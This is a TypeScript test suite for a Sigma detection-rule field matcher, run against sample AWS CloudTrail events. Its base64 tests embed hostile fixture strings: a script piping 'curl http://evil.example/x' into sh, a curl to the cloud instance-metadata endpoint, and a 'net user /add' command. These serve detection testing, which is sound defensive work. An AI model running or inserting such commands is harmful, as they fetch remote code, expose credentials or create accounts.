import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { SigmaRuleProblem } from '../../../src/core/detect/sigma/errors.ts';
import { compileFieldMatcher } from '../../../src/core/detect/sigma/field-matcher.ts';
import { ct } from './vendored-cases.ts';

/** True when `field|mods: value` holds for the record. */
const holds = (key: string, value: unknown, record: unknown) => compileFieldMatcher(key, value).test(record);

const createKey = ct({
  eventSource: 'iam.amazonaws.com',
  eventName: 'CreateAccessKey',
  sourceIPAddress: '203.0.113.45',
  userAgent: 'aws-cli/2.15.30 Python/3.11.8 Windows/10 exe/AMD64 prompt/off command/iam.create-access-key',
  requestParameters: { userName: 'bob' },
  responseElements: {
    accessKey: {
      accessKeyId: 'AKIAEXAMPLE',
      status: 'Active',
      userName: 'bob',
      createDate: 'Jul 30, 2024 9:53:13 PM',
    },
  },
  additionalEventData: { 'x-amz-id-2': 'abc', count: 3 },
});

describe('plain values', () => {
  it('compare case-insensitively, as Sigma specifies', () => {
    assert.equal(holds('eventName', 'createaccesskey', createKey), true);
    assert.equal(holds('eventName', 'CreateAccessKeys', createKey), false);
  });
  it('read nested paths through objects', () => {
    assert.equal(holds('userIdentity.type', 'IAMUser', createKey), true);
    assert.equal(holds('responseElements.accessKey.userName', 'BOB', createKey), true);
    assert.equal(holds('responseElements.accessKey.missing', 'bob', createKey), false);
  });
  it('find keys that contain dots themselves', () => {
    assert.equal(holds('additionalEventData.x-amz-id-2', 'abc', createKey), true);
    assert.equal(holds('a.b', 'flat', { 'a.b': 'flat' }), true);
  });
  it('search arrays element by element', () => {
    const rec = {
      requestParameters: { containerDefinitions: [{ command: ['sh', '-c', 'id'] }, { command: ['nginx'] }] },
    };
    assert.equal(holds('requestParameters.containerDefinitions.command', 'nginx', rec), true);
    assert.equal(holds('requestParameters.containerDefinitions.command', 'bash', rec), false);
  });
  it('OR a list of values', () => {
    assert.equal(holds('eventName', ['DeleteUser', 'CreateAccessKey'], createKey), true);
    assert.equal(holds('eventName', ['DeleteUser', 'CreateUser'], createKey), false);
  });
  it('match numbers and booleans against their text', () => {
    assert.equal(holds('additionalEventData.count', 3, createKey), true);
    assert.equal(holds('additionalEventData.count', '3', createKey), true);
    assert.equal(holds('readOnly', false, createKey), true);
    assert.equal(holds('readOnly', 'FALSE', createKey), true);
    assert.equal(holds('readOnly', true, createKey), false);
  });
  it('null matches a missing or null field only', () => {
    assert.equal(holds('errorCode', null, createKey), true);
    assert.equal(holds('requestParameters', null, ct({ requestParameters: null })), true);
    assert.equal(holds('errorCode', null, { ...createKey, errorCode: 'AccessDenied' }), false);
    assert.equal(holds('errorCode', [null, 'Success'], { ...createKey, errorCode: 'Success' }), true);
  });
  it("'' matches an empty string, not a missing field", () => {
    assert.equal(holds('requestParameters.versioning', '', { requestParameters: { versioning: '' } }), true);
    assert.equal(holds('requestParameters.versioning', '', { requestParameters: {} }), false);
  });
  it('search object values through their JSON and the strings inside', () => {
    assert.equal(holds('responseElements', '*"status":"Active"*', createKey), true);
    const policy = { requestParameters: { policyDocument: '{"Effect":"Allow","Action":"s3:GetObject"}' } };
    assert.equal(holds('requestParameters|contains', '"s3:GetObject"', policy), true);
  });
  it('rejects nested maps as values', () => {
    assert.throws(() => compileFieldMatcher('requestParameters', [{ a: 1 }]), SigmaRuleProblem);
  });
});

describe('wildcards', () => {
  it('* and ? match runs and single characters', () => {
    assert.equal(holds('userAgent', 'aws-cli/2.*windows*', createKey), true);
    assert.equal(holds('sourceIPAddress', '203.0.113.4?', createKey), true);
    assert.equal(holds('sourceIPAddress', '203.0.113.?', createKey), false);
  });
  it('escaped wildcards are literal', () => {
    assert.equal(holds('f', 'a\\*b', { f: 'a*b' }), true);
    assert.equal(holds('f', 'a\\*b', { f: 'axxb' }), false);
    assert.equal(holds('f', 'what\\?', { f: 'what?' }), true);
    assert.equal(holds('f', 'what\\?', { f: 'whatx' }), false);
  });
  it('an escaped backslash before a wildcard keeps the wildcard', () => {
    assert.equal(holds('f', 'C:\\\\*', { f: 'C:\\Windows' }), true);
    assert.equal(holds('f', 'C:\\\\*', { f: 'D:\\Windows' }), false);
  });
  it('a backslash before anything else is literal', () => {
    assert.equal(holds('f', 'C:\\Windows', { f: 'C:\\Windows' }), true);
  });
  it('regular-expression characters in values are literal', () => {
    assert.equal(holds('f', 'a.b(c)', { f: 'a.b(c)' }), true);
    assert.equal(holds('f', 'a.b(c)', { f: 'axb(c)' }), false);
  });
});

describe('string modifiers', () => {
  it('contains, startswith and endswith', () => {
    assert.equal(holds('userAgent|contains', 'PYTHON/3.11', createKey), true);
    assert.equal(holds('userAgent|startswith', 'aws-cli/', createKey), true);
    assert.equal(holds('userAgent|startswith', 'Python', createKey), false);
    assert.equal(holds('userAgent|endswith', 'create-access-key', createKey), true);
    assert.equal(holds('userAgent|endswith', 'aws-cli', createKey), false);
  });
  it('contains with wildcard "*" means "any non-null value"', () => {
    assert.equal(holds('errorMessage|contains', '*', { errorMessage: 'denied' }), true);
    assert.equal(holds('errorMessage|contains', '*', createKey), false);
  });
  it('all requires every value', () => {
    assert.equal(holds('userAgent|contains|all', ['aws-cli', 'iam.create-access-key'], createKey), true);
    assert.equal(holds('userAgent|contains|all', ['aws-cli', 'Boto3'], createKey), false);
  });
  it('cased makes matching case-sensitive', () => {
    assert.equal(holds('eventName|cased', 'CreateAccessKey', createKey), true);
    assert.equal(holds('eventName|cased', 'createaccesskey', createKey), false);
    assert.equal(holds('userAgent|contains|cased', 'python', createKey), false);
  });
  it('neq: the field differs from every value (a missing field differs)', () => {
    assert.equal(holds('eventName|neq', 'DeleteUser', createKey), true);
    assert.equal(holds('eventName|neq', ['DeleteUser', 'CreateAccessKey'], createKey), false);
    assert.equal(holds('errorCode|neq', 'AccessDenied', createKey), true);
  });
  it('windash treats -, /, en dash, em dash and horizontal bar alike', () => {
    const rec = { cmd: 'net user /add bob', cmd2: 'tool \u2013force' };
    assert.equal(holds('cmd|windash|contains', ' -add ', rec), true);
    assert.equal(holds('cmd2|windash|contains', '/force', rec), true);
    assert.equal(holds('cmd|windash|contains', ' +add ', rec), false);
  });
});

describe('re', () => {
  it('searches with a case-sensitive regular expression', () => {
    assert.equal(holds('userIdentity.arn|re', ':user/[a-z]+$', createKey), true);
    assert.equal(holds('userIdentity.arn|re', ':USER/', createKey), false);
  });
  it('takes the i, m and s sub-modifiers', () => {
    assert.equal(holds('userIdentity.arn|re|i', ':USER/', createKey), true);
    assert.equal(holds('f|re|m', '^two$', { f: 'one\ntwo\nthree' }), true);
    assert.equal(holds('f|re', '^two$', { f: 'one\ntwo\nthree' }), false);
    assert.equal(holds('f|re|s', 'one.two', { f: 'one\ntwo' }), true);
    assert.equal(holds('f|re', 'one.two', { f: 'one\ntwo' }), false);
  });
  it('reports an expression that does not compile', () => {
    assert.throws(() => compileFieldMatcher('f|re', '(unclosed'), /does not compile/);
  });
  it('sub-modifiers without re are invalid', () => {
    assert.throws(() => compileFieldMatcher('f|i', 'x'), /sub-modifier of "re"/);
  });
});

describe('cidr', () => {
  it('matches IPv4 and IPv6 addresses inside the network', () => {
    assert.equal(holds('sourceIPAddress|cidr', '203.0.113.0/24', createKey), true);
    assert.equal(holds('sourceIPAddress|cidr', ['10.0.0.0/8', '192.168.0.0/16'], createKey), false);
    assert.equal(holds('sourceIPAddress|cidr', '2001:db8::/32', { sourceIPAddress: '2001:db8::5' }), true);
  });
  it('never matches a service hostname', () => {
    assert.equal(holds('sourceIPAddress|cidr', '0.0.0.0/0', { sourceIPAddress: 'ec2.amazonaws.com' }), false);
  });
  it('rejects a value that is not a CIDR', () => {
    assert.throws(() => compileFieldMatcher('sourceIPAddress|cidr', 'office'), SigmaRuleProblem);
  });
});

describe('exists', () => {
  it('checks presence, whatever the value (even null)', () => {
    assert.equal(holds('requestParameters|exists', true, ct({ requestParameters: null })), true);
    assert.equal(holds('errorCode|exists', true, createKey), false);
    assert.equal(holds('errorCode|exists', false, createKey), true);
    assert.equal(holds('responseElements.accessKey.userName|exists', true, createKey), true);
  });
  it('takes a boolean only', () => {
    assert.throws(() => compileFieldMatcher('errorCode|exists', 'yes'), /true or false/);
  });
});

describe('fieldref', () => {
  it('compares with another field of the same record', () => {
    assert.equal(
      holds('requestParameters.userName|fieldref', 'responseElements.accessKey.userName', createKey),
      true,
    );
    assert.equal(holds('requestParameters.userName|fieldref', 'userIdentity.userName', createKey), false);
  });
  it('combines with contains and endswith', () => {
    const self = ct({ requestParameters: { userName: 'alice' } });
    assert.equal(holds('userIdentity.arn|fieldref|endswith', 'requestParameters.userName', self), true);
    assert.equal(holds('userIdentity.arn|fieldref|contains', 'requestParameters.userName', createKey), false);
  });
  it('never matches when the other field is missing', () => {
    assert.equal(holds('eventName|fieldref', 'nope.nothing', createKey), false);
  });
});

describe('numbers and times', () => {
  const rec = { size: 2048, text: '17', eventTime: '2024-05-02T23:15:00Z' };
  it('lt, lte, gt, gte compare numbers and numeric text', () => {
    assert.equal(holds('size|gt', 1024, rec), true);
    assert.equal(holds('size|lt', 1024, rec), false);
    assert.equal(holds('size|gte', 2048, rec), true);
    assert.equal(holds('size|lte', 2047, rec), false);
    assert.equal(holds('text|gte', 17, rec), true);
  });
  it('time parts read the UTC timestamp', () => {
    assert.equal(holds('eventTime|hour', 23, rec), true);
    assert.equal(holds('eventTime|hour|gte', 22, rec), true);
    assert.equal(holds('eventTime|minute', 15, rec), true);
    assert.equal(holds('eventTime|month', 5, rec), true);
    assert.equal(holds('eventTime|year', 2024, rec), true);
    assert.equal(holds('eventTime|day', 2, rec), true);
    assert.equal(holds('eventTime|week', 18, rec), true);
    assert.equal(holds('eventTime|hour', 22, rec), false);
  });
  it('need a numeric value', () => {
    assert.throws(() => compileFieldMatcher('size|gt', 'big'), /needs a number/);
  });
});

describe('base64 and base64offset', () => {
  const encoded = (s: string) => btoa(s);
  it('base64 matches the encoded value, case-sensitively', () => {
    const rec = { userData: encoded('#!/bin/bash\ncurl http://evil.example/x | sh') };
    assert.equal(holds('userData|base64', '#!/bin/bash\ncurl http://evil.example/x | sh', rec), true);
    // Six bytes encode to eight characters without padding, so they prefix the longer encoding.
    assert.equal(holds('userData|base64|startswith', '#!/bin', rec), true);
    assert.equal(holds('userData|base64', '#!/BIN/BASH', rec), false);
  });
  it('base64offset finds a value at any byte offset inside encoded text', () => {
    for (const prefix of ['', 'x', 'xy', 'xyz']) {
      const rec = { userData: encoded(`${prefix}curl http://169.254.169.254/latest/meta-data tail`) };
      assert.equal(
        holds('userData|base64offset|contains', '169.254.169.254', rec),
        true,
        `prefix "${prefix}"`,
      );
      assert.equal(holds('userData|base64offset|contains', '10.0.0.1', rec), false);
    }
  });
  it('utf16le (wide) before base64 encodes two bytes per character', () => {
    const wide = String.fromCharCode(...[...'Invoke'].flatMap((c) => [c.charCodeAt(0), 0]));
    assert.equal(holds('cmd|wide|base64offset|contains', 'Invoke', { cmd: btoa(`a\u0000${wide}`) }), true);
  });
  it('refuse wildcards and bare UTF-16', () => {
    assert.throws(() => compileFieldMatcher('f|base64', 'a*'), /cannot encode wildcards/);
    assert.throws(() => compileFieldMatcher('f|utf16le', 'abc'), /UTF-16 encoding without base64/);
  });
});

describe('keywords', () => {
  it('search every value of the record (contains, case-insensitive)', () => {
    assert.equal(holds('', 'create-access-key', createKey), true);
    assert.equal(holds('', ['nothing-here', 'AKIAEXAMPLE'], createKey), true);
    assert.equal(holds('', 'delete-access-key', createKey), false);
  });
  it('|all requires every keyword', () => {
    assert.equal(holds('|all', ['bob', 'aws-cli'], createKey), true);
    assert.equal(holds('|all', ['bob', 'carol'], createKey), false);
  });
});

describe('unsupported modifiers are named', () => {
  it('expand needs placeholders', () => {
    assert.throws(
      () => compileFieldMatcher('userName|expand', '%Administrators%'),
      (e: unknown) => {
        return e instanceof SigmaRuleProblem && e.problem === 'unsupported' && /expand/.test(e.message);
      },
    );
  });
  it('an unknown modifier', () => {
    assert.throws(() => compileFieldMatcher('eventName|sounds_like', 'x'), /unknown modifier "sounds_like"/);
  });
  it('conflicting modifiers', () => {
    assert.throws(() => compileFieldMatcher('f|contains|startswith', 'x'), /only one of/);
    assert.throws(() => compileFieldMatcher('f|cidr|contains', '10.0.0.0/8'), /cannot be combined/);
  });
});
